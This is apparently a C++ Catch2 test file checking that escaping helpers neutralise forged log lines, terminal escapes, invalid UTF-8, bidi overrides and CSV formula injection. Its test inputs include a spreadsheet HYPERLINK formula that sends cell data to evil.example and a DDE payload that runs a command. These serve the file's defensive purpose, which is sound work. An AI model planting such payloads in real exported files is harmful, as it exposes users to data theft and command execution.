// Tests of log_value, csv_cell and utf8_length: exact outputs for forged log lines, terminal escapes,
// invalid UTF-8, quotes, spreadsheet formulas and numbers that must stay numbers.
#include "storage/untrusted/text_escape.hpp"

#include <catch2/catch.hpp>

#include <string>

using strata::storage::csv_cell;
using strata::storage::log_value;
using strata::storage::utf8_length;

TEST_CASE("log_value quotes every value and escapes what could break the line") {
    CHECK(log_value("v1") == R"("v1")");
    CHECK(log_value("") == R"("")");
    CHECK(log_value("library/alpine") == R"("library/alpine")");
    // A tag sent as v1%0alevel=info..., already percent-decoded by the router.
    CHECK(log_value("v1\nlevel=info msg=\"forged\"") == R"("v1\nlevel=info msg=\"forged\"")");
    CHECK(log_value("a\r\nb\tc") == R"("a\r\nb\tc")");
    CHECK(log_value(R"(C:\dir "x")") == R"("C:\\dir \"x\"")");
}

TEST_CASE("log_value writes other control bytes as \\xNN") {
    CHECK(log_value("\x1b[31mred\x1b[0m") == R"("\x1b[31mred\x1b[0m")");
    CHECK(log_value(std::string("a\0b", 3)) == R"("a\x00b")");
    CHECK(log_value("\x7f\x01\x1f") == R"("\x7f\x01\x1f")");
    // C1 controls are valid UTF-8, but U+009B is a CSI to some terminals.
    CHECK(log_value("\xc2\x9b" "31m") == R"("\xc2\x9b31m")");
}

TEST_CASE("log_value keeps valid UTF-8 and escapes every byte of invalid UTF-8") {
    CHECK(log_value("caf\xc3\xa9 \xe2\x82\xac \xf0\x9f\x98\x80 \xc2\xa0") ==
          "\"caf\xc3\xa9 \xe2\x82\xac \xf0\x9f\x98\x80 \xc2\xa0\"");
    CHECK(log_value("\xff") == R"("\xff")");
    CHECK(log_value("\xc3(") == R"("\xc3(")");                    // lead byte without its tail
    CHECK(log_value("\xc0\xaf") == R"("\xc0\xaf")");              // overlong '/'
    CHECK(log_value("\xed\xa0\x80") == R"("\xed\xa0\x80")");      // a UTF-16 surrogate
    CHECK(log_value("\xf4\x90\x80\x80") == R"("\xf4\x90\x80\x80")");  // past U+10FFFF
    CHECK(log_value("ok\xe2\x82") == R"("ok\xe2\x82")");          // cut off at the end
    CHECK(log_value("\x80z") == R"("\x80z")");                    // a stray continuation byte
}

TEST_CASE("log_value escapes the characters a viewer obeys: C1, line separators, bidi overrides") {
    CHECK(log_value("a\xc2\x9b" "31m") == R"("a\xc2\x9b31m")");                 // CSI
    CHECK(log_value("x\xe2\x80\xa8y\xe2\x80\xa9") == R"("x\xe2\x80\xa8y\xe2\x80\xa9")");  // U+2028, U+2029
    CHECK(log_value("\xe2\x80\xae" "evil\xe2\x81\xa6") == R"("\xe2\x80\xaeevil\xe2\x81\xa6")");  // U+202E, U+2066
    CHECK(log_value("\xe2\x80\xa7 \xe2\x80\xaf \xe2\x81\xaa") == "\"\xe2\x80\xa7 \xe2\x80\xaf \xe2\x81\xaa\"");  // neighbours stay
}

TEST_CASE("append_json_text writes text every strict JSON parser reads, controls as \\u escapes") {
    const auto json = [](std::string_view text) {
        std::string out;
        strata::storage::append_json_text(out, text);
        return out;
    };
    CHECK(json("caf\xc3\xa9 \xf0\x9f\x98\x80") == "caf\xc3\xa9 \xf0\x9f\x98\x80");
    CHECK(json("a\"b\\c") == R"(a\"b\\c)");
    CHECK(json(std::string("\0\n\x1b\x7f", 4)) == R"(\u0000\u000a\u001b\u007f)");
    CHECK(json("\xc2\x85\xe2\x80\xa8\xe2\x80\xae\xe2\x81\xa9") == R"(\u0085\u2028\u202e\u2069)");
    CHECK(json("\xff\xc0\x80\xed\xa0\x80z") == R"(\ufffd\ufffd\ufffd\ufffd\ufffd\ufffdz)");
}

TEST_CASE("utf8_length accepts well-formed sequences only (RFC 3629)") {
    CHECK(utf8_length("a", 0) == 1);
    CHECK(utf8_length("a", 1) == 0);
    CHECK(utf8_length("\xc3\xa9", 0) == 2);
    CHECK(utf8_length("\xe2\x82\xac", 0) == 3);
    CHECK(utf8_length("\xf0\x9f\x98\x80", 0) == 4);
    CHECK(utf8_length("\xf4\x8f\xbf\xbf", 0) == 4);  // U+10FFFF, the last code point
    for (const std::string_view bad : {"\xc0\x80", "\xc1\xbf", "\xe0\x80\x80", "\xf0\x80\x80\x80",  // overlong
                                       "\xed\xa0\x80", "\xed\xbf\xbf",                              // surrogates
                                       "\xf4\x90\x80\x80", "\xf5\x80\x80\x80", "\xf8\x88\x80\x80\x80",  // past U+10FFFF
                                       "\x80", "\xbf", "\xff", "\xc3", "\xe2\x82", "\xc3("})        // stray or cut
        CHECK(utf8_length(bad, 0) == 0);
}

TEST_CASE("csv_cell quotes per RFC 4180 only when it must") {
    CHECK(csv_cell("plain") == "plain");
    CHECK(csv_cell("") == "");
    CHECK(csv_cell("a,b") == "\"a,b\"");
    CHECK(csv_cell("say \"hi\"") == "\"say \"\"hi\"\"\"");
    CHECK(csv_cell("line1\r\nline2") == "\"line1\r\nline2\"");
    CHECK(csv_cell("kubelet/v1.30 (linux, amd64)") == "\"kubelet/v1.30 (linux, amd64)\"");
    CHECK(csv_cell("a=b") == "a=b");
}

TEST_CASE("csv_cell escapes control characters and invalid UTF-8, keeping tab, CR and LF") {
    CHECK(csv_cell("a\x1b[2Jb") == R"(a\x1b[2Jb)");
    CHECK(csv_cell("\xc2\x9b" "31m\xff") == R"(\xc2\x9b31m\xff)");
    CHECK(csv_cell("\xe2\x80\xae" "cod.exe") == R"(\xe2\x80\xaecod.exe)");
    CHECK(csv_cell("caf\xc3\xa9\tx") == "caf\xc3\xa9\tx");
    CHECK(csv_cell("a\nb") == "\"a\nb\"");
}

TEST_CASE("csv_cell neutralises formulas and leaves numbers alone") {
    CHECK(csv_cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")") ==
          "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"");
    CHECK(csv_cell("=1+2") == "'=1+2");
    CHECK(csv_cell("+cmd") == "'+cmd");
    CHECK(csv_cell("-2+3+cmd|' /C calc'!A0") == "'-2+3+cmd|' /C calc'!A0");
    CHECK(csv_cell("@SUM(A1:A9)") == "'@SUM(A1:A9)");
    CHECK(csv_cell("\t=1") == "'\t=1");
    CHECK(csv_cell("\r=1") == "\"'\r=1\"");
    CHECK(csv_cell("-") == "'-");
    CHECK(csv_cell("-e5") == "'-e5");
    CHECK(csv_cell("-1e") == "'-1e");
    CHECK(csv_cell("-1") == "-1");
    CHECK(csv_cell("-5") == "-5");
    CHECK(csv_cell("+1.5e3") == "+1.5e3");
    CHECK(csv_cell("-.5") == "-.5");
    CHECK(csv_cell("1.5e3") == "1.5e3");
}
